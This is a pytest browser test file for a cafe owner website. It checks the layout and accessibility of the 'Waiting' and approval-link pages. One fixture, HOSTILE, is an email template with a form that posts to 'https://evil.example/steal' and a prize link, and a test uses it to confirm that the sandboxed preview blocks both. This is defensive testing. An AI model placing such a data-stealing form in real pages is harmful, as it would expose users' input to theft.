"""The page Waiting, and the page behind a link of the morning letter, in a real browser."""

from __future__ import annotations

import socket
from collections.abc import Sequence
from functools import partial
from pathlib import Path

import pytest
from sqlalchemy import Engine

from engine.owner.approval_links import create_links
from tests.cafe import HOUR, MARCH, Cafe
from tests.pages.owner.browsers import OwnerSitePages
from tests.pages.owner.chromium import (
    DESKTOP,
    PHONE,
    VIEWS,
    Chromium,
    View,
    VisitedPage,
    needs_chromium,
)
from tests.pages.owner.test_waiting import RULES, ids
from tests.pages.visitors import OpenPages, served

pytestmark = needs_chromium
OPPOSITE_VIEWS = [View(PHONE, "dark"), View(DESKTOP, "light")]
HOSTILE = """{% extends "layout.html" %}
{% block subject %}A basket{% endblock %}
{% block content %}
<p id="written">Hello</p>
<form action="https://evil.example/steal" method="post"><button>Win</button></form>
<p><a href="https://evil.example/">A prize</a></p>
{% endblock %}
"""


@pytest.fixture
def cafe(sqlite: Engine, tmp_path: Path) -> Cafe:
    cafe = Cafe(sqlite, tmp_path, RULES)
    cafe.leave_carts(MARCH - 4 * HOUR, "ana", "bruno", "clara")
    cafe.run()
    cafe.record_consent("clara", "no", MARCH)
    return cafe


def look(visited: VisitedPage, picture: Path, *, scripts: bool = True) -> tuple[bool, list[str]]:
    """axe-core is a script: it never ends on a page without them."""
    visited.page.wait_for_load_state("networkidle")
    visited.page.screenshot(path=picture, full_page=True)
    return visited.is_too_wide(), visited.violations() if scripts else []


def look_at(
    chromium: Chromium, site: OwnerSitePages, paths: Sequence[str], views: Sequence[View], to: Path
) -> None:
    with site.served() as address:
        for number, path in enumerate(paths):
            for view in views:
                picture = to / f"waiting-{number}-{view}.png"
                action = partial(look, picture=picture, scripts=view.scripts)
                result = chromium.visit(address + path, site.cookies(address), action, view)
                assert (path, view, *result) == (path, view, False, [])


def test_the_pages_fit_and_axe_finds_nothing(
    chromium: Chromium, cafe: Cafe, tmp_path: Path
) -> None:
    paths = ["/waiting", f"/waiting/{ids(cafe)[0]}"]
    look_at(chromium, OwnerSitePages(cafe), paths, OPPOSITE_VIEWS, tmp_path)


@pytest.mark.soak
def test_in_every_view(chromium: Chromium, cafe: Cafe, tmp_path: Path) -> None:
    paths = ["/waiting", f"/waiting/{ids(cafe)[0]}"]
    views = [*VIEWS, View(PHONE, scripts=False)]
    look_at(chromium, OwnerSitePages(cafe), paths, views, tmp_path)


def test_the_page_of_a_link_fits_and_axe_finds_nothing(
    chromium: Chromium, cafe: Cafe, tmp_path: Path
) -> None:
    [entry] = create_links(cafe.shop, now=MARCH)
    path = entry.url.removeprefix("https://mail.cornercafe.example")
    with (
        socket.create_server(("127.0.0.1", 0)) as listener,
        served(OpenPages(cafe).visit.app, listener) as address,
    ):
        for view in OPPOSITE_VIEWS:
            action = partial(look, picture=tmp_path / f"link-{view}.png")
            is_too_wide, violations = chromium.visit(address + path, [], action, view)
            assert not is_too_wide
            # The public layout has the shop's name above the landmarks.
            assert [text for text in violations if not text.startswith("region:")] == []


def test_forms_and_links_of_a_mail_do_nothing(chromium: Chromium, cafe: Cafe) -> None:
    (cafe.path.parent / "templates").mkdir()
    (cafe.path.parent / "templates" / "cart-reminder.html").write_text(HOSTILE)
    cafe.reread(RULES)
    site = OwnerSitePages(cafe)

    def press(visited: VisitedPage) -> tuple[str, list[str], str]:
        frame = visited.page.frame_locator("iframe").first
        frame.locator("a", has_text="A prize").click()
        frame.get_by_role("button", name="Win").click()
        visited.page.wait_for_timeout(300)
        visited.complaints.clear()  # the browser says that it has refused them
        return frame.locator("#written").inner_text(), visited.elsewhere, visited.page.url

    with site.served() as address:
        url = f"{address}/waiting/{ids(cafe)[0]}"
        assert chromium.visit(url, site.cookies(address), press) == ("Hello", [], url)
